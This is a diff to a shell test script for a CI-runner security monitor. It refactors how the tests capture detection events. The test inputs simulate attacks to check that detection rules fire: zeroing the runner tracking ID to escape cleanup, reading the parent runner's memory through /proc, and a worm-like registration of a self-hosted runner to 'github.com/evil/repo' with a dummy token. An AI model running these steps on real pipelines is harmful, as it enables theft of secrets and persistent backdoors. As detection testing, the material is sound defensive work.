@@ -32,6 +32,20 @@ has() {
 	done
 }
 
+# `cimon watch --json` into $1 while the rest of the command line runs,
+# then $2 more seconds for the last events.
+watched() {
+	out=$1 linger=$2
+	shift 2
+	cimon watch --json >"$out" 2>&1 &
+	watcher=$!
+	sleep 0.5
+	"$@"
+	sleep "$linger"
+	kill "$watcher"
+	wait "$watcher" 2>/dev/null
+}
+
 echo "TAP version 13"
 
 cimon rules load /rules/falco_seed.yaml /rules/memory_access.yaml \
@@ -41,17 +55,11 @@ ok $? "the shipped rules load"
 
 mkdir -p /tmp/actions-runner/bin
 cp /tests/exec_test /tmp/actions-runner/bin/Runner.Worker
-cimon watch --json >/tmp/job.json 2>&1 &
-watcher=$!
-sleep 0.5
 # Step 1: a run: step that escapes the cleanup, and one that does not.
 # Step 2: a uses: step (tj-actions/changed-files) dumping the runner.
-/tmp/actions-runner/bin/Runner.Worker \
+watched /tmp/job.json 1.5 /tmp/actions-runner/bin/Runner.Worker \
 	'RUNNER_TRACKING_ID=0 /bin/sleep 1 >/dev/null 2>&1 & /bin/true; :' \
 	'head -c 16 /proc/$PPID/mem >/dev/null 2>&1; :'
-sleep 1.5
-kill "$watcher"
-wait "$watcher" 2>/dev/null
 
 has /tmp/job.json "GitHub Runner Tracking ID Zeroed in a Job" \
 	'"github.action":"step1"' '"github.repository":"octo/app"' \
@@ -82,14 +90,8 @@ ok $? "a step that keeps the job's tracking id is quiet"
 # A double fork does not launder the variable: the process that sets it
 # to 0 is orphaned (its step's shell has exited) before it execs, so its
 # parent is no longer the step's; the environment it inherited still is.
-cimon watch --json >/tmp/orphan.json 2>&1 &
-watcher=$!
-sleep 0.5
-/tmp/actions-runner/bin/Runner.Worker \
+watched /tmp/orphan.json 2 /tmp/actions-runner/bin/Runner.Worker \
 	'(sleep 0.5; RUNNER_TRACKING_ID=0 exec /bin/sleep 1) >/dev/null 2>&1 & exit 0'
-sleep 2
-kill "$watcher"
-wait "$watcher" 2>/dev/null
 has /tmp/orphan.json "GitHub Runner Tracking ID Zeroed in a Job" \
 	'"github.action":"step1"' '"proc.name":"sleep"' \
 	'"proc.env[RUNNER_TRACKING_ID]":"0"'
@@ -101,15 +103,10 @@ ok $? "an orphan that zeroes it fires too: the parent's environment is the inher
 mkdir -p /tmp/home/.dev-env
 printf '#!/bin/sh\nexit 0\n' >/tmp/home/.dev-env/config.sh
 chmod 755 /tmp/home/.dev-env/config.sh
-cimon watch --json >/tmp/worm.json 2>&1 &
-watcher=$!
-sleep 0.5
-(cd /tmp/home/.dev-env && RUNNER_ALLOW_RUNASROOT=1 ./config.sh \
+watched /tmp/worm.json 0.5 sh -c 'cd /tmp/home/.dev-env &&
+	RUNNER_ALLOW_RUNASROOT=1 ./config.sh \
 	--url https://github.com/evil/repo --unattended --token AAAA \
-	--name SHA1HULUD)
-sleep 0.5
-kill "$watcher"
-wait "$watcher" 2>/dev/null
+	--name SHA1HULUD'
 for rule in $(grep -o '"rule":"[^"]*"' /tmp/worm.json | sort -u |
 	tr ' ' '_'); do
 	echo "# fired: $rule"
